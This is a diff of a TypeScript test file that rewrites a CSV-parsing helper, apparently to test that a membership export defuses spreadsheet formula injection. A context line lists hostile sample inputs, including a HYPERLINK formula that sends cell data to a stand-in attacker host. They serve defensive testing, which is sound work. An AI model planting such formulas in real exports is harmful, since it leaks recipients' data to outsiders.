@@ -15,25 +15,31 @@ import { createGemeente, createMember } from "@/tests/support/factories";
 
 const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1;"klik")', "+31 6 1234", "-2+3", "@SUM(A1)", "\tverborgen", "\r=1+1"];
 
-/** Splits the CSV the way a spreadsheet program reads it (RFC 4180, ";" separated). */
+/** Splits the CSV the way a spreadsheet program reads it (RFC 4180, ";" separated, CRLF rows). */
 function cells(csv: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
+  const rows: string[][] = [[]];
   let cell = "";
   let quoted = false;
   const text = csv.replace(/^\uFEFF/, "");
   for (let i = 0; i < text.length; i++) {
     const c = text[i];
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
-      else if (c === '"') quoted = false;
-      else cell += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ";") row.push(cell), (cell = "");
-    else if (c === "\r" && text[i + 1] === "\n") row.push(cell), rows.push(row), (row = []), (cell = ""), i++;
-    else cell += c;
+    if (quoted && c === '"' && text[i + 1] === '"') {
+      cell += '"';
+      i++;
+    } else if (c === '"') {
+      quoted = !quoted;
+    } else if (!quoted && (c === ";" || (c === "\r" && text[i + 1] === "\n"))) {
+      rows.at(-1)!.push(cell);
+      cell = "";
+      if (c === "\r") {
+        rows.push([]);
+        i++;
+      }
+    } else {
+      cell += c;
+    }
   }
-  return rows;
+  return rows.slice(0, -1);
 }
 
 /** A spreadsheet program runs a cell as a formula when it starts with one of these. */
